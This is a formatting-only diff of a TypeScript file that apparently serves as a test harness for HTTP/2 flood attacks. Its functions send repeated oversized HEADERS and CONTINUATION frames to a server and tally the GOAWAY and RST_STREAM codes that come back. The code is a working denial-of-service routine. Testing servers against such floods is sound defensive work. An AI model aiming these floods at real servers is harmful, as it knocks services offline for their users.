@@ -42,14 +42,34 @@ async function attackOnce(kind: AttackKind, raw: RawH2, authority: string, deadl
   let open = true;
   void raw.closed.then(() => (open = false));
   if (kind === 'continuation') {
-    send(frame(FRAME.HEADERS, 0, 1, headerBlock([[':method', 'GET'], [':scheme', 'https'], [':path', '/'], [':authority', authority]])));
+    send(
+      frame(
+        FRAME.HEADERS,
+        0,
+        1,
+        headerBlock([
+          [':method', 'GET'],
+          [':scheme', 'https'],
+          [':path', '/'],
+          [':authority', authority],
+        ]),
+      ),
+    );
   }
   if (kind === 'big-headers') {
-    const block = headerBlock([[':method', 'GET'], [':scheme', 'https'], [':path', '/'], [':authority', authority], ['x-big', 'b'.repeat(64 * 1024)]]);
+    const block = headerBlock([
+      [':method', 'GET'],
+      [':scheme', 'https'],
+      [':path', '/'],
+      [':authority', authority],
+      ['x-big', 'b'.repeat(64 * 1024)],
+    ]);
     // one HEADERS and CONTINUATION frames of at most 16 KiB (the default SETTINGS_MAX_FRAME_SIZE)
     const pieces = [];
     for (let at = 0; at < block.length; at += 16384) pieces.push(block.subarray(at, at + 16384));
-    pieces.forEach((piece, i) => send(frame(i === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, (i === pieces.length - 1 ? FLAG.END_HEADERS : 0) | (i === 0 ? FLAG.END_STREAM : 0), 1, piece)));
+    pieces.forEach((piece, i) =>
+      send(frame(i === 0 ? FRAME.HEADERS : FRAME.CONTINUATION, (i === pieces.length - 1 ? FLAG.END_HEADERS : 0) | (i === 0 ? FLAG.END_STREAM : 0), 1, piece)),
+    );
   }
   while (open && Date.now() < deadline) {
     const batch: Buffer[] = [];
@@ -67,10 +87,23 @@ async function attackOnce(kind: AttackKind, raw: RawH2, authority: string, deadl
     }
     if (kind === 'big-headers') {
       // a new big request every round
-      const block = headerBlock([[':method', 'GET'], [':scheme', 'https'], [':path', '/'], [':authority', authority], ['x-big', 'b'.repeat(64 * 1024)]]);
+      const block = headerBlock([
+        [':method', 'GET'],
+        [':scheme', 'https'],
+        [':path', '/'],
+        [':authority', authority],
+        ['x-big', 'b'.repeat(64 * 1024)],
+      ]);
       id += 2;
       for (let at = 0, first = true; at < block.length; at += 16384, first = false) {
-        batch.push(frame(first ? FRAME.HEADERS : FRAME.CONTINUATION, (at + 16384 >= block.length ? FLAG.END_HEADERS : 0) | (first ? FLAG.END_STREAM : 0), id, block.subarray(at, at + 16384)));
+        batch.push(
+          frame(
+            first ? FRAME.HEADERS : FRAME.CONTINUATION,
+            (at + 16384 >= block.length ? FLAG.END_HEADERS : 0) | (first ? FLAG.END_STREAM : 0),
+            id,
+            block.subarray(at, at + 16384),
+          ),
+        );
       }
     }
     send(...batch);
@@ -99,7 +132,8 @@ export async function attack(kind: AttackKind, port: number, authority: string, 
     const goaway = raw.frames.find((f) => f.type === FRAME.GOAWAY);
     const ending = goaway ? String(goaway.payload.readUInt32BE(4)) : Date.now() >= deadline ? 'deadline' : 'closed';
     summary.endings[ending] = (summary.endings[ending] ?? 0) + 1;
-    for (const f of raw.frames) if (f.type === FRAME.RST_STREAM) summary.resets[String(f.payload.readUInt32BE(0))] = (summary.resets[String(f.payload.readUInt32BE(0))] ?? 0) + 1;
+    for (const f of raw.frames)
+      if (f.type === FRAME.RST_STREAM) summary.resets[String(f.payload.readUInt32BE(0))] = (summary.resets[String(f.payload.readUInt32BE(0))] ?? 0) + 1;
   }
   return summary;
 }
